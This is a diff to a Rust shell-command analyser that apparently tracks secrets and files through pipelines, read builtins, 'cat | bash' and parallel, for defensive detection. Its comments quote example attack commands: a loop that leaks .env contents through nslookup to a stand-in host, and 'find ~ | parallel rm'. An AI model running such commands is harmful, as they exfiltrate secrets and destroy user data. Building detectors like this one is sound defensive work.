@@ -1041,7 +1041,15 @@ impl Walker<'_> {
             }
             "set" | "shift" | "read" | "mapfile" | "readarray" | "getopts" | "let" | "wait"
             | "unset" | "shopt" | "hash" => {
-                Self::shell_builtin(&name, args, scope);
+                // What `read`/`mapfile` assign is the data they read: a secret makes the
+                // variables secret sources (`while read -r l; do nslookup "$l.x.example";
+                // done < .env`).
+                let secret = match &stdin {
+                    Producer::Secret(source) => Some(source.clone()),
+                    Producer::Nothing => self.group_secret.clone(),
+                    _ => None,
+                };
+                Self::shell_builtin(&name, args, scope, secret.as_ref());
                 self.classify_plain(&name, argv, scope);
                 self.producer_of(&name, args, &stdin, scope)
             }
@@ -1211,6 +1219,17 @@ impl Walker<'_> {
                         root: found.text.clone(),
                     })
                 } else if files.iter().all(|w| w.exact) {
+                    // `cat FILE | bash` feeds the file as it is, as `bash < FILE` does: the
+                    // pipeline passes it on as the next stage's input file.
+                    if let ([file], [_], crate::targets::Cwd::Known(cwd)) =
+                        (files.as_slice(), args, &scope.cwd)
+                        && name == "cat"
+                        && !scope.remote
+                    {
+                        let home = self.ctx.home.as_deref();
+                        self.files.piped_file =
+                            Some(hookgate_paths::normalize(&file.text, cwd, home).path);
+                    }
                     Producer::LocalFile
                 } else {
                     Producer::Opaque
@@ -1938,7 +1957,10 @@ impl Walker<'_> {
             // with the item as `$1` (its shape kept: `find ~ | parallel rm` still reaches the
             // home). Items with a known text are substituted as text (over-approximating
             // their quoting); items carrying a flow (a secret) keep that route too.
-            if !item.exact && item.substs.is_empty() {
+            // Found paths (`find . | parallel`, `git ls-files | parallel`) go the same way:
+            // spliced in as text they would read as the root itself, not the files below it
+            // that `xargs` sees.
+            if (!item.exact || item.shape != WordShape::Exact) && item.substs.is_empty() {
                 let mut line: Vec<Word> = cmd.to_vec();
                 let mut replaced = false;
                 for w in &mut line {
@@ -2051,7 +2073,7 @@ impl Walker<'_> {
             child.sh.zero = params.first().map_or(Val::Unknown, Val::of);
             child.sh.params = Some(params.iter().skip(1).map(Val::of).collect());
         }
-        self.code_string(argv, code, &mut child, via);
+        self.in_shell(&mut child, |w, child| w.code_string(argv, code, child, via));
     }
 
     /// Analyses a string as shell code run by this shell (`eval`, an alias's body): what it
